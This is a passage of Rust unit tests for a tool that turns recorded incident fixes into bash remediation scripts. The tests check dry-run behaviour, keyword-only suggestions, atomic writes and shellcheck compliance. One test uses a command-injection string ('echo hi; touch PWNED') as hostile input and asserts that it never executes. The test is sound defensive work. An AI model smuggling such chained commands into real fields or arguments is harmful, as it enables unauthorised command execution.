    fn keyword_rules_only_suggest_and_never_run() {
        let mut p = pattern(
            "P0000abcd",
            "WorkerCrashError in <*> — ワーカープロセスが異常終了しました",
            &["systemctl restart pm-worker", "キューを確認"],
            4,
        );
        p.components = vec![counted("libs/rabbitmq_client.py".into(), 4)];
        let s = candidate(&p, &AutofixOptions::default()).expect("candidate");
        assert!(s.content.contains("# Step 1: recorded action (used in 4 of 4 resolved incidents): systemctl restart pm-worker\nrun systemctl restart pm-worker\n"), "{}", s.content);
        assert!(s.content.contains("manual 'キューを確認'"));
        assert!(
            s.content.contains(
                "# Step 3: suggested by keyword rule: rabbitmq (printed only)\nsuggest 'systemctl status rabbitmq-server'\n"
            ),
            "{}",
            s.content
        );
        let runs: Vec<&str> = s
            .content
            .lines()
            .filter_map(|l| l.strip_prefix("run "))
            .collect();
        assert_eq!(runs, ["systemctl restart pm-worker"]);
        assert!(!s.content.lines().any(|l| l.starts_with("check ")));
        for step in &s.steps {
            if let Step::Command { source, .. } = step {
                assert!(matches!(source, StepSource::Recorded { .. }), "{step:?}");
            }
        }
    }

    #[test]
    fn keywords_alone_make_no_script() {
        let p = pattern(
            "P0000abce",
            "Connection refused to RabbitMQ at <*>",
            &["キューを確認"],
            4,
        );
        assert!(candidate(&p, &AutofixOptions::default()).is_none());
    }

    #[test]
    fn hostile_text_stays_inert_dry_and_applied() {
        if !tool_available("shellcheck") {
            return;
        }
        let tmp = tempfile::tempdir().expect("tempdir");
        let p = hostile();
        let script = candidate(
            &p,
            &AutofixOptions {
                max_steps: 20,
                ..Default::default()
            },
        )
        .expect("candidate");
        let commands: Vec<&Vec<String>> = script
            .steps
            .iter()
            .filter_map(|s| match s {
                Step::Command { argv, .. } => Some(argv),
                Step::Instruction { .. } => None,
            })
            .collect();
        let made = vec!["mkdir".to_string(), "made_by_script".to_string()];
        assert_eq!(
            commands,
            vec![&made],
            "only the plain mkdir survives: {:#?}",
            script.steps
        );
        for line in script.content.lines() {
            let t = line.trim_start();
            assert!(
                !(t.starts_with("touch") || t.starts_with("rm ") || t.starts_with("$(")),
                "hostile text on its own line: {line:?}"
            );
        }

        let path = write_and_lint(tmp.path(), &script);

        let dry = run_bash(&path, tmp.path(), &[]);
        assert!(
            dry.status.success(),
            "{}",
            String::from_utf8_lossy(&dry.stderr)
        );
        let stdout = String::from_utf8_lossy(&dry.stdout);
        assert!(stdout.contains("+ mkdir made_by_script"), "{stdout}");
        assert!(
            stdout.contains("manual step: echo hi; touch PWNED"),
            "{stdout}"
        );
        assert!(
            !tmp.path().join("made_by_script").exists(),
            "dry run executed a step"
        );
        assert!(!tmp.path().join("PWNED").exists());

        let applied = run_bash(&path, tmp.path(), &["--apply"]);
        assert!(
            applied.status.success(),
            "{}",
            String::from_utf8_lossy(&applied.stderr)
        );
        assert!(
            tmp.path().join("made_by_script").is_dir(),
            "--apply ran the command"
        );
        assert!(
            !tmp.path().join("PWNED").exists(),
            "hostile text was executed"
        );
    }

    #[test]
    fn dry_run_prints_steps_and_runs_nothing() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let p = pattern(
            "P00000030",
            "Cache dir missing <*>",
            &["mkdir -p cache/tmp", "キャッシュを確認"],
            2,
        );
        let s = candidate(&p, &AutofixOptions::default()).expect("candidate");
        let path = tmp.path().join(&s.file_name);
        fs::write(&path, &s.content).expect("write");
        let out = run_bash(&path, tmp.path(), &[]);
        assert!(out.status.success());
        assert_eq!(
            String::from_utf8_lossy(&out.stdout),
            "dry run: printing the steps only; pass --apply to run the commands\n\
             + mkdir -p cache/tmp\n\
             manual step: キャッシュを確認\n"
        );
        assert!(!tmp.path().join("cache").exists());
        let applied = run_bash(&path, tmp.path(), &["--apply"]);
        assert!(applied.status.success());
        assert!(tmp.path().join("cache/tmp").is_dir());
        let bad = run_bash(&path, tmp.path(), &["--force"]);
        assert_eq!(bad.status.code(), Some(2));
    }

    #[test]
    fn write_scripts_is_atomic_idempotent_and_keeps_edited_files() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let dir = tmp.path().join("auto_fix");
        let opts = AutofixOptions::default();
        let pats = vec![
            pattern(
                "P00000010",
                "Worker crashed <*>",
                &["supervisorctl restart all"],
                3,
            ),
            pattern("P00000011", "Disk <*>", &["df -h"], 2),
        ];
        let written = write_scripts(&dir, &pats, &opts).expect("write");
        assert_eq!(written.len(), 2);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = fs::metadata(&written[0])
                .expect("meta")
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o644);
        }
        assert!(write_scripts(&dir, &pats, &opts).expect("rerun").is_empty());

        let edited = "#!/usr/bin/env bash\necho mine\n";
        fs::write(dir.join("P00000011.sh"), edited).expect("edit");
        let plans = plan_scripts(&dir, &pats, &opts).expect("plan");
        assert_eq!(plans[1].status, ScriptStatus::KeptEdited);
        assert!(write_scripts(&dir, &pats, &opts).expect("rerun").is_empty());
        assert_eq!(
            fs::read_to_string(dir.join("P00000011.sh")).expect("read"),
            edited
        );
        let leftovers: Vec<_> = fs::read_dir(&dir)
            .expect("dir")
            .filter_map(|e| e.ok())
            .filter(|e| e.file_name().to_string_lossy().starts_with('.'))
            .collect();
        assert!(leftovers.is_empty(), "temporary files left behind");
    }

    #[test]
    fn generated_scripts_pass_bash_n_and_shellcheck() {
        if !tool_available("shellcheck") {
            return;
        }
        let tmp = tempfile::tempdir().expect("tempdir");
        let pats = [
            pattern(
                "P00000020",
                "ModuleNotFoundError: No module named <*> in worker",
                &[
                    "pip install -r requirements.txt",
                    "systemctl restart worker",
                ],
                3,
            ),
            pattern(
                "P00000021",
                "Permission denied: <*>",
                &["chmod 644 /var/log/app.log"],
                2,
            ),
        ];
        for p in &pats {
            let s = candidate(p, &AutofixOptions::default()).expect("candidate");
            let path = write_and_lint(tmp.path(), &s);
            let dry = run_bash(&path, tmp.path(), &["--dry-run"]);
            assert!(dry.status.success());
            assert!(String::from_utf8_lossy(&dry.stdout).starts_with("dry run:"));
        }
    }
}
